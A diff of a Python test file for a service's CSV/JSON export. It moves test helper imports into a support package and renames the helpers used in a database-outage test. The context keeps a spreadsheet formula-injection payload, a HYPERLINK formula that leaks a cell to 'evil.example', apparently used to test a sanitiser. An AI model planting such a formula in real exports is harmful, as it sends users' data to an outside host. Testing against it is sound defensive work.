@@ -10,11 +10,10 @@ from pathlib import Path
 import pytest
 
 from service.http.export import spreadsheet_safe
-from tests.conftest import SEED, _drop_postgres_database, new_database, running_app
-from tests.e2e.conftest import Stack, stack
-from tests.e2e.test_database_outage import _allow_connections
-
-__all__ = ["stack"]  # the e2e fixture: the app and a real worker on each database
+from tests.support.app import running_app
+from tests.support.databases import allow_connections, drop_postgres_database, new_database
+from tests.support.paths import SEED
+from tests.support.stack import Stack
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -75,15 +74,15 @@ async def test_an_export_while_the_database_is_down_is_a_503_in_json(
     env = {"DATABASE_URL": url, "REDIS_URL": redis_url, "QUEUE_NAME": f"{queue_name}:export-outage"}
     try:
         async with running_app(env) as running:
-            await _allow_connections(name, False)
+            await allow_connections(name, False)
             for path in ("/export/observations.csv", "/export/observations.json"):
                 response = await running.client.get(path, params={"fiscal_year": "2026"})
                 assert response.status_code == 503, response.text[:300]
                 assert response.headers["content-type"].startswith("application/json")
                 assert response.json()["errors"][0]["extensions"]["code"] == "SERVICE_UNAVAILABLE"
-            await _allow_connections(name, True)
+            await allow_connections(name, True)
             back = await running.client.get("/export/observations.csv", params={"fiscal_year": "2026"})
             assert back.status_code == 200
     finally:
-        await _allow_connections(name, True)
-        await _drop_postgres_database(name)
+        await allow_connections(name, True)
+        await drop_postgres_database(name)
